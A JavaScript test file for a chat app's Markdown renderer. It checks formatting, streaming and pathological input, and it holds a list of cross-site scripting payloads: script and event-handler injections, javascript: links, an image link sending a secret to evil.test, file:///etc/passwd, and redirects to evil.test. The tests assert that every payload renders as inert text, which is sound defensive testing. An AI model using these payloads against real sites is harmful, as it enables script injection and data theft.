// What a model writes becomes text and the few elements that are meant, whatever it writes.
import { test, ok, equal } from '../support/harness.mjs';
import { open } from '../support/page.mjs';

/** Renders texts in the page; gives their HTML, read back. */
const render = (page, texts) => page.evaluate(async (list) => {
  const { MarkdownView } = await import('./js/markdown.js');
  return list.map((text) => {
    const div = document.createElement('div');
    new MarkdownView(div).update(text);
    return div.innerHTML;
  });
}, texts);

test('markdown: what is meant is shown', async (t) => {
  const { page, done } = await open(t);
  const cases = [
    ['a *b* **c** ***d*** `e` ~~f~~', '<p>a <em>b</em> <strong>c</strong> <strong><em>d</em></strong> <code>e</code> <del>f</del></p>'],
    ['snake_case_name and 2*3*4', '<p>snake_case_name and 2<em>3</em>4</p>'],
    ['**not closed and *this* is', '<p>**not closed and <em>this</em> is</p>'],
    ['*a **b* c**', '<p><em>a **b</em> c**</p>'],
    ['\\*plain\\* and `a\\b`', '<p>*plain* and <code>a\\b</code></p>'],
    ['``a ` b``', '<p><code>a ` b</code></p>'],
    ['line  \nbreak\nsame', '<p>line<br>break\nsame</p>'],
    ['# One\n### Three ###', '<h3>One</h3><h5>Three</h5>'],
    ['- a\n- b\n  - c\n- d', '<ul><li>a</li><li>b<ul><li>c</li></ul></li><li>d</li></ul>'],
    ['3. x\n4. y', '<ol start="3"><li>x</li><li>y</li></ol>'],
    ['1. a\n\n   more\n2. b', '<ol><li><p>a</p><p>more</p></li><li><p>b</p></li></ol>'],
    ['> a\n> > b', '<blockquote><p>a</p><blockquote><p>b</p></blockquote></blockquote>'],
    ['---', '<hr>'],
    ['text\n\n***\n\ntext', '<p>text</p><hr><p>text</p>'],
    ['not a table | here', '<p>not a table | here</p>'],
  ];
  const got = await render(page, cases.map(([text]) => text));
  cases.forEach(([text, expected], i) => equal(got[i], expected, JSON.stringify(text)));
  const [table, code, tasks] = await render(page, ['|a|b|\n|--|:-:|\n|1|2 \\| 3|\n|only|', '```js\nlet a = "<b>";\n```', '- [x] a\n- [ ] b']);
  ok(table.includes('<td class="center">2 | 3</td>') && table.match(/<td/g).length === 4, table);
  ok(code.includes('let a = "&lt;b&gt;";') && code.includes('<span>js</span>'), code);
  ok(tasks.match(/type="checkbox"/g).length === 2 && tasks.includes('disabled'), tasks);
  await done();
});

const ATTACKS = [
  '<script>pwned=1</script>', '<img src=x onerror=pwned=1>', '<svg onload=pwned=1>', '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '![x](https://evil.test/?q=secret)', '![x](javascript:pwned=1)', '[x](javascript:pwned=1)', '[x](JaVaScRiPt:pwned=1)', '[x](java\tscript:pwned=1)', '[x](&#106;avascript:pwned=1)',
  '[x](data:text/html,<script>pwned=1</script>)', '[x](vbscript:pwned)', '[x](//evil.test)', '[x](file:///etc/passwd)', '[x](blob:https://evil.test/1)', '<javascript:pwned=1>', '<https://evil.test/"onmouseover=pwned=1>',
  '[x](https://evil.test/" onclick="pwned=1)', '[a](https://a.test "t" onclick=pwned=1)', '`<img src=x onerror=pwned=1>`', '```"><img src=x onerror=pwned=1>\n<img src=x onerror=pwned=1>\n```',
  '| <img src=x onerror=pwned=1> |\n|---|\n| <script>pwned=1</script> |', '- <b onmouseover=pwned=1>x</b>', '> <details open ontoggle=pwned=1>', '# <style>*{display:none}</style>',
  '[<img src=x onerror=pwned=1>](https://a.test)', '![<img src=x onerror=pwned=1>](https://a.test)', '&lt;script&gt;pwned=1&lt;/script&gt;', '<math><mi xlink:href="javascript:pwned=1">', '</div></article><script>pwned=1</script>',
  '\u0000<script>pwned=1</script>', '<a href="https://evil.test">x</a>', '<form action=https://evil.test><button>x', '<link rel=stylesheet href=https://evil.test>', '<meta http-equiv=refresh content=0;url=https://evil.test>', '<base href=https://evil.test>',
];

test('markdown: attacks become text', async (t) => {
  const { page, done } = await open(t);
  const result = await page.evaluate(async (attacks) => {
    const { MarkdownView } = await import('./js/markdown.js');
    const allowed = new Set(['p', 'em', 'strong', 'del', 'code', 'pre', 'figure', 'figcaption', 'span', 'button', 'svg', 'use', 'a', 'br', 'hr', 'ul', 'ol', 'li', 'blockquote', 'h3', 'h4', 'h5', 'h6', 'div', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'input']);
    const attributes = new Set(['class', 'href', 'target', 'rel', 'title', 'type', 'aria-label', 'aria-hidden', 'role', 'tabindex', 'scope', 'start', 'checked', 'disabled']);
    const found = [];
    const box = document.createElement('div');
    document.body.append(box);
    for (const attack of [...attacks, attacks.join('\n\n'), attacks.join(' ')]) {
      const div = document.createElement('div');
      box.append(div);
      const view = new MarkdownView(div);
      // As it streams in: a half of an attack is one, too.
      for (let i = 1; i < attack.length; i += 7) view.update(attack.slice(0, i));
      view.update(attack);
      for (const el of div.querySelectorAll('*')) {
        if (!allowed.has(el.localName)) found.push(`<${el.localName}> of ${attack}`);
        for (const a of el.attributes) {
          if (!attributes.has(a.name)) found.push(`${a.name} of ${attack}`);
          if (a.name === 'href' && el.localName === 'a' && !/^(https?:|mailto:)/.test(a.value)) found.push(`${a.value} of ${attack}`);
          if (a.name === 'href' && el.localName === 'use' && !a.value.startsWith('#')) found.push(`${a.value} of ${attack}`);
        }
        if (el.localName === 'a' && (el.target !== '_blank' || !el.rel.includes('noopener') || !el.rel.includes('noreferrer'))) found.push(`rel of ${attack}`);
        el.dispatchEvent(new Event('mouseover'));
      }
    }
    await new Promise((r) => setTimeout(r, 300));
    return { found, pwned: globalThis.pwned };
  }, ATTACKS);
  equal(result.found, []);
  equal(result.pwned, undefined);
  await done();
});

test('markdown: the attacks through the whole page', async (t) => {
  const { page, ready, ask, done } = await open(t, { mock: { tokenMs: 0, answers: [ATTACKS.join('\n\n')] } });
  await ready();
  await ask(ATTACKS[1]);
  equal(await page.evaluate(() => globalThis.pwned), undefined);
  equal(await page.locator('.thread script, .thread iframe, .thread img, .thread style, .thread form').count(), 0);
  equal(await page.locator('.bubble').innerText(), ATTACKS[1], 'the question is text, too');
  equal(await page.locator('#conversations .open').innerText(), ATTACKS[1], 'and so is the title');
  await done();
});

test('markdown: a text that streams in ends as the whole text', async (t) => {
  const { page, done } = await open(t);
  const text = '# T\n\nsome *text* with\ntwo lines\n\n1. a\n2. b\n   - c\n\n```py\nprint(1)\n\nprint(2)\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> q\n\nend';
  const same = await page.evaluate(async (whole) => {
    const { MarkdownView } = await import('./js/markdown.js');
    const [a, b] = [document.createElement('div'), document.createElement('div')];
    const view = new MarkdownView(a);
    let heading = null;
    let code = null;
    const moved = [];
    for (let i = 1; i <= whole.length; i++) {
      view.update(whole.slice(0, i));
      if (i > 6) { heading ??= a.firstElementChild; if (a.firstElementChild !== heading) moved.push(i); }
      const c = a.querySelector('figure code');
      if (c && i > whole.indexOf('print')) { code ??= c; if (c !== code) moved.push(i); }
    }
    new MarkdownView(b).update(whole);
    return { a: a.innerHTML, b: b.innerHTML, moved };
  }, text);
  equal(same.a, same.b);
  equal(same.moved, [], 'what did not change keeps its elements');
  await done();
});

test('markdown: what repeats a hundred thousand times ends', async (t) => {
  const { page, done } = await open(t);
  const sizes = await page.evaluate(async () => {
    const { MarkdownView } = await import('./js/markdown.js');
    const out = [];
    for (const piece of ['*', '_a ', '**a ', '`', '[', '](', '[a](', '![', '<', '> ', '- ', '  - a\n', '|', '|-', '~~', '\\', '# ', '```\n', 'http://', '*a **b ', '1. a\n\n', '\n', '[a](b"', '> > > > a\n', '`` ` ', 'a_', '(']) {
      const div = document.createElement('div');
      new MarkdownView(div).update(piece.repeat(Math.ceil(100_000 / piece.length)));
      out.push(div.textContent.length >= 0);
    }
    return out.length;
  });
  equal(sizes, 27);
  await done();
}, { seconds: 30 });

test('markdown: code is copied as it is', async (t) => {
  const { page, context, ready, ask, done } = await open(t, { mock: { answers: ['```\n<a> & "b"\n  c\n```'], tokenMs: 0 } });
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await ready();
  await ask('code?');
  await page.click('.copy');
  equal(await page.evaluate(() => navigator.clipboard.readText()), '<a> & "b"\n  c');
  equal(await page.locator('.copy').innerText(), 'Copied');
  await done();
});
